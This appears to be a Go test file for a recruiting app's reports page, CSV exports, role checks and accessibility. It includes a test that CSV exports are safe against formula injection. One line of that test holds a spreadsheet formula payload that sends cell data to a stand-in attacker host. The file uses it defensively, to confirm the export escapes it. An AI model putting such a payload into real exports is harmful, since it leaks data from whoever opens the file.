package handlers_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"
	"github.com/chromedp/chromedp"

	"nextstep/models"
)

// reportsBudget is the most statements the reports page may run, the
// session read included.
const reportsBudget = 8

func TestReportsPageChartsHaveTextAlternatives(t *testing.T) {
	t.Parallel()
	app := newTestApp(t)
	staff := app.newClient()
	staff.loginStaff(recruiterEmail)

	before := app.Store.Statements()
	res := staff.get("/admin/reports")
	used := app.Store.Statements() - before
	if res.Status != http.StatusOK {
		t.Fatalf("GET /admin/reports: %d\n%.500s", res.Status, res.Body)
	}
	if used > reportsBudget {
		t.Errorf("the reports page ran %d statements, budget %d", used, reportsBudget)
	} else {
		t.Logf("the reports page ran %d statements (budget %d)", used, reportsBudget)
	}
	if !strings.Contains(res.Body, `<svg`) {
		t.Fatal("the reports page has no inline SVG")
	}
	doc := res.Doc(t)

	// Every chart is an image with a title and a description, both linked,
	// and scales with its box; a table with the same figures follows it.
	charts := doc.Find(`svg[role="img"]`)
	// Three positions' funnels, stage times, time to hire, offer acceptance, and overdue promises if any.
	if charts.Length() < 6 {
		t.Fatalf("%d charts, want at least 6", charts.Length())
	}
	charts.Each(func(i int, svg *goquery.Selection) {
		id, _ := svg.Attr("data-testid")
		title := svg.ChildrenFiltered("title")
		desc := svg.ChildrenFiltered("desc")
		titleID, _ := title.Attr("id")
		descID, _ := desc.Attr("id")
		if strings.TrimSpace(title.Text()) == "" || strings.TrimSpace(desc.Text()) == "" {
			t.Errorf("chart %s: title %q, description %q: both are needed", id, title.Text(), desc.Text())
		}
		if got := svg.AttrOr("aria-labelledby", ""); got != titleID || titleID == "" {
			t.Errorf("chart %s: aria-labelledby %q, title id %q", id, got, titleID)
		}
		if got := svg.AttrOr("aria-describedby", ""); got != descID || descID == "" {
			t.Errorf("chart %s: aria-describedby %q, description id %q", id, got, descID)
		}
		if svg.AttrOr("width", "") != "100%" || !strings.HasPrefix(svg.AttrOr("viewbox", svg.AttrOr("viewBox", "")), "0 0 300 ") {
			t.Errorf("chart %s does not scale: width %q, viewBox %q", id, svg.AttrOr("width", ""), svg.AttrOr("viewbox", ""))
		}
		if svg.NextAllFiltered(".table-wrap").Find("table").Length() == 0 {
			t.Errorf("chart %s has no table of its figures after it", id)
		}
	})
	if n := doc.Find("script").Length(); n != 1 { // the site's optional script only
		t.Errorf("%d scripts on the page; the reports need none", n)
	}

	// The definitions are on the page.
	for _, want := range []string{"reached", "the median", "newest version", "promised next update"} {
		if !strings.Contains(doc.Find("main").Text(), want) {
			t.Errorf("the page does not explain %q", want)
		}
	}
	// One CSV link per report.
	for _, k := range models.ReportKinds() {
		if doc.Find(fmt.Sprintf(`a[href="/admin/reports/%s/csv"]`, k)).Length() != 1 {
			t.Errorf("no CSV link for %s", k)
		}
	}

	// Figures worked out by hand from the demo data. The warehouse role:
	// Pavel (interview completed, withdrawn), Kemi (assessment day), Liam
	// (reference checks), Maya (medical), Noah (onboarding), Olivia (hired).
	warehouse := app.positionID("Warehouse Operations Lead")
	rows := doc.Find(fmt.Sprintf(`[data-testid="funnel-%d"] tbody tr`, warehouse))
	cells := func(i int) string {
		var out []string
		rows.Eq(i).Find("td").Each(func(_ int, td *goquery.Selection) { out = append(out, strings.TrimSpace(td.Text())) })
		return strings.Join(out, " | ")
	}
	for i, want := range map[int]string{
		0: "Interview completed | 6 | 0",
		1: "Assessment day | 5 | 1",
		2: "HR round | 4 | 0",
		3: "Reference checks | 4 | 1",
		9: "Hired | 1 | 1",
	} {
		if got := cells(i); got != want {
			t.Errorf("warehouse funnel row %d = %q, want %q", i, got, want)
		}
	}
	// Olivia was added 18.75 days before she was hired.
	if got := strings.TrimSpace(doc.Find(`[data-testid="time-to-hire-overall"]`).Text()); got != "18.8 days" {
		t.Errorf("overall time to hire = %q, want 18.8 days", got)
	}
	if got := strings.TrimSpace(doc.Find(`[data-testid="hires-overall"]`).Text()); got != "1" {
		t.Errorf("hires = %q, want 1", got)
	}
	// Overdue promises, counted another way.
	var overdue int64
	if err := app.Store.DB().Raw(`SELECT count(*) FROM applications WHERE status = 'active' AND expected_update_at < ?`, app.Clock.Now()).Scan(&overdue).Error; err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSpace(doc.Find(`[data-testid="overdue-count"]`).Text()); !strings.HasPrefix(got, fmt.Sprint(overdue)+" ") {
		t.Errorf("overdue count = %q, want %d", got, overdue)
	}
	if n := doc.Find(`[data-testid="overdue-table"] tbody tr`).Length(); int64(n) != overdue {
		t.Errorf("%d overdue rows listed, want %d", n, overdue)
	}

	// One position.
	res = staff.get(fmt.Sprintf("/admin/reports?position=%d", warehouse))
	if res.Status != http.StatusOK {
		t.Fatalf("reports for one position: %d", res.Status)
	}
	doc = res.Doc(t)
	if n := doc.Find(`[data-testid^="funnel-"]`).Length(); n != 1 {
		t.Errorf("%d funnels for one position, want 1", n)
	}
	if doc.Find(fmt.Sprintf(`option[value="%d"][selected]`, warehouse)).Length() != 1 {
		t.Error("the position filter does not show the chosen position")
	}
	if doc.Find(fmt.Sprintf(`a[href="/admin/reports/funnel/csv?position=%d"]`, warehouse)).Length() != 1 {
		t.Error("the CSV links do not keep the position")
	}
	if res := staff.get("/admin/reports?position=999999"); res.Status != http.StatusNotFound {
		t.Errorf("unknown position: %d, want 404", res.Status)
	}
}

func readCSV(t *testing.T, res response) [][]string {
	t.Helper()
	if res.Status != http.StatusOK {
		t.Fatalf("CSV: status %d\n%.300s", res.Status, res.Body)
	}
	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("Content-Type %q, want text/csv", ct)
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="nextstep-`) || !strings.HasSuffix(cd, `.csv"`) {
		t.Errorf("Content-Disposition %q, want an attachment", cd)
	}
	records, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV: %v\n%s", err, res.Body)
	}
	return records
}

func TestReportCSVDownloads(t *testing.T) {
	t.Parallel()
	app := newTestApp(t)
	staff := app.newClient()
	staff.loginStaff(adminEmail)
	headers := map[models.ReportKind]string{
		models.ReportFunnel:          "position,position_status,stage_number,stage,reached,in_stage_now",
		models.ReportStageTimes:      "positions,stage,completed_stays,median_days",
		models.ReportTimeToHire:      "position,hires,median_days_to_hire",
		models.ReportOfferAcceptance: "position,accepted,declined,awaiting_answer,acceptance_rate_percent",
		models.ReportOverdue:         "candidate,email,position,stage,promised_update,days_overdue",
	}
	got := map[models.ReportKind][][]string{}
	for _, k := range models.ReportKinds() {
		records := readCSV(t, staff.get("/admin/reports/"+string(k)+"/csv"))
		if len(records) == 0 || strings.Join(records[0], ",") != headers[k] {
			t.Errorf("%s CSV header = %q, want %q", k, records, headers[k])
		}
		got[k] = records
	}
	// The funnel lists every stage of the three demo pipelines: 11 + 10 + 10.
	if n := len(got[models.ReportFunnel]) - 1; n != 31 {
		t.Errorf("funnel CSV has %d rows, want 31", n)
	}
	if last := got[models.ReportTimeToHire][len(got[models.ReportTimeToHire])-1]; strings.Join(last, ",") != "All positions,1,18.75" {
		t.Errorf("time to hire, all positions = %q, want All positions,1,18.75", last)
	}

	sales := app.positionID("Account Executive")
	res := staff.get(fmt.Sprintf("/admin/reports/funnel/csv?position=%d", sales))
	records := readCSV(t, res)
	if n := len(records) - 1; n != 11 {
		t.Errorf("funnel CSV of one position has %d rows, want its 11 stages", n)
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.Contains(cd, fmt.Sprintf("-position-%d", sales)) {
		t.Errorf("Content-Disposition %q does not name the position", cd)
	}

	for _, path := range []string{"/admin/reports/nope/csv", "/admin/reports/Funnel/csv", "/admin/reports/funnel/csv?position=999999"} {
		if res := staff.get(path); res.Status != http.StatusNotFound {
			t.Errorf("GET %s: %d, want 404", path, res.Status)
		}
	}
}

func TestReportCandidateListCSVIsFormulaSafe(t *testing.T) {
	t.Parallel()
	app := newTestApp(t)
	staff := app.newClient()
	staff.loginStaff(recruiterEmail)
	const evil = `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`
	sales := app.positionID("Account Executive")
	res := staff.post("/admin/candidates", url.Values{"name": {evil}, "email": {"formula@example.com"}, "position_id": {fmt.Sprint(sales)}})
	if res.Status != http.StatusSeeOther {
		t.Fatalf("adding the candidate: %d\n%.500s", res.Status, res.Body)
	}

	records := readCSV(t, staff.get("/admin/candidates/export.csv"))
	if got, want := strings.Join(records[0], ","), "name,email,position,stage,status,stage_entered,expected_update"; got != want {
		t.Errorf("header = %q, want %q", got, want)
	}
	var total int64
	if err := app.Store.DB().Raw(`SELECT count(*) FROM applications`).Scan(&total).Error; err != nil {
		t.Fatal(err)
	}
	if int64(len(records)-1) != total {
		t.Errorf("%d rows exported, want every application (%d)", len(records)-1, total)
	}
	found := false
	for _, r := range records[1:] {
		if r[1] == "formula@example.com" {
			found = true
			if r[0] != "'"+evil {
				t.Errorf("name cell = %q, want %q", r[0], "'"+evil)
			}
			if r[2] != "Account Executive" || r[4] != "Active" {
				t.Errorf("row = %q", r)
			}
		}
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	if !found {
		t.Fatal("the new candidate is not in the export")
	}

	// Filtered like the list.
	records = readCSV(t, staff.get("/admin/candidates/export.csv?status=hired"))
	if len(records) != 2 || records[1][0] != "Olivia Brown" {
		t.Errorf("hired only = %q, want Olivia Brown alone", records)
	}
	records = readCSV(t, staff.get(fmt.Sprintf("/admin/candidates/export.csv?position=%d&q=hyperlink&sort=-name", sales)))
	if len(records) != 2 || records[1][1] != "formula@example.com" {
		t.Errorf("search = %q, want the one candidate", records)
	}
	records = readCSV(t, staff.get("/admin/candidates/export.csv?q=nobody-is-called-this"))
	if len(records) != 1 {
		t.Errorf("no match = %q, want the header alone", records)
	}
}

func TestReportRoutesRefuseOtherRoles(t *testing.T) {
	t.Parallel()
	app := newTestApp(t)
	paths := []string{"/admin/reports", "/admin/reports/funnel/csv", "/admin/reports/overdue/csv", "/admin/candidates/export.csv"}
	for _, email := range []string{managerEmail, interviewerEmail} {
		c := app.newClient()
		c.loginStaff(email)
		for _, p := range paths {
			if res := c.get(p); res.Status != http.StatusForbidden && res.Status != http.StatusNotFound {
				t.Errorf("%s GET %s: %d, want 403 or 404", email, p, res.Status)
			} else if strings.Contains(res.Body, "<svg") || strings.Contains(res.Body, "Olivia") {
				t.Errorf("%s GET %s: the refusal shows report data", email, p)
			}
		}
	}
	anon := app.newClient()
	for _, p := range paths {
		if res := anon.get(p); res.Status == http.StatusOK {
			t.Errorf("anonymous GET %s: 200", p)
		}
	}
	cand := app.newClient()
	cand.loginCandidate("ben.okafor@example.com")
	for _, p := range paths {
		if res := cand.get(p); res.Status == http.StatusOK {
			t.Errorf("candidate GET %s: 200", p)
		}
	}
}

// The reports page passes axe at every width and fits a 360px screen.
func TestReportsBrowserAxeAndNarrowScreen(t *testing.T) {
	t.Parallel()
	app := newTestApp(t)
	r := newAxeRun(t, app)
	tab := r.tab()
	browserLoginStaff(t, tab, app, recruiterEmail, "/admin")
	all := []axeWidth{axeDesktop, axeTablet, axeMobile}
	warehouse := app.positionID("Warehouse Operations Lead")
	for i, path := range []string{"/admin/reports", fmt.Sprintf("/admin/reports?position=%d", warehouse)} {
		r.page(tab, "recruiter", "GET /admin/reports", path, http.StatusOK, all...)
		do(t, tab, "a 360px viewport", chromedp.EmulateViewport(360, 740))
		if sw := run(t, tab, "page width", chromedp.Evaluate[int](`document.documentElement.scrollWidth`)); sw > 360 {
			t.Errorf("%s is %dpx wide on a 360px screen: it scrolls sideways", path, sw)
		}
		// Each chart fits its box.
		wide := run(t, tab, "chart widths", chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll('svg[role="img"]'))
			.filter(function (s) { var b = s.getBoundingClientRect(); return b.right > document.documentElement.clientWidth || b.width < 200; })
			.map(function (s) { return s.getAttribute("data-testid") + " " + Math.round(s.getBoundingClientRect().width); })`))
		if len(wide) > 0 {
			t.Errorf("%s at 360px: charts that overflow or collapse: %v", path, wide)
		}
		screenshot(t, tab, fmt.Sprintf("reports-%d-mobile.png", i))
		do(t, tab, "back to desktop", chromedp.EmulateViewport(axeDesktop.width, axeDesktop.height))
		screenshot(t, tab, fmt.Sprintf("reports-%d-desktop.png", i))
	}
	r.report()
}
